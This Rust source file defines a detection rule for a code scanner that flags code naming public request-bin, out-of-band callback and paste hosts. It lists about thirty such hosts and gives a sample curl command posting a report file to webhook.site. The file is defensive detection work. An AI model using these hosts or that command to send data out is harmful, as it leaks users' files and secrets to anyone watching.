//! `exfil.webhook-host`

use super::super::shell::tree::Span;
use super::super::unit::Kind;
use super::{Look, Rule, Weight};
use crate::model::finding::Tier;

pub(super) static RULE: Rule = Rule {
    id: "exfil.webhook-host",
    title: "reaches a place where anybody can collect what is sent",
    weight: Weight::of_commands(Tier::Warn, Tier::Note, None),
    owasp: &["AST01"],
    what: "Code names a host that takes what anybody sends and shows it to whoever opened the box: request bins, paste services, collaborator domains.",
    why: "It costs nothing, needs no name, and is gone tomorrow: what thieves of data use.",
    instead: "Send to a host of your own.",
    limits: "Sentences are left alone, and so are tunnels and chat services, which developers use all day.",
    bad: "```sh\ncurl -d @report.json https://webhook.site/0000-1111\n```\n",
    alike: "```sh\ncurl -d @report.json https://hooks.example.com/0000\n```\n",
    look: Look::Text(|unit| if matches!(unit.kind, Kind::Code(_)) { found(&unit.text) } else { Vec::new() }),
};

/// Hosts of which only the end counts.
const HOSTS: &[&str] = &[
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "requestcatcher.com",
    "hookbin.com",
    "beeceptor.com",
    "pipedream.net",
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "dnslog.cn",
    "ceye.io",
    "termbin.com",
    "transfer.sh",
    "0x0.st",
    "paste.rs",
    "ix.io",
    "file.io",
    "bashupload.com",
    "temp.sh",
    "canarytokens.com",
    "ptsv2.com",
    "postb.in",
];

fn found(text: &str) -> Vec<(Span, String)> {
    let low = text.to_ascii_lowercase();
    let edge = |c: char| !(c.is_ascii_alphanumeric() || c == '-');
    let mut all = Vec::new();
    for host in HOSTS {
        for (start, _) in low.match_indices(host) {
            let end = start + host.len();
            let before = low[..start].chars().next_back();
            let after = low[end..].chars().next();
            // A name of its own, in an address or behind a blank, and not the front of a longer one.
            let address = before.is_none_or(|c| matches!(c, '/' | '.' | '@' | ' ' | '"' | '\''));
            if address && after.is_none_or(|c| edge(c) && c != '.' && c != '(' && c != '_') {
                all.push((
                    Span { start, end },
                    format!("names `{host}`, where anybody can collect what is sent"),
                ));
            }
        }
    }
    all
}

/// Whether a text names such a host.
pub(super) fn names_one(text: &str) -> bool {
    !found(text).is_empty()
}
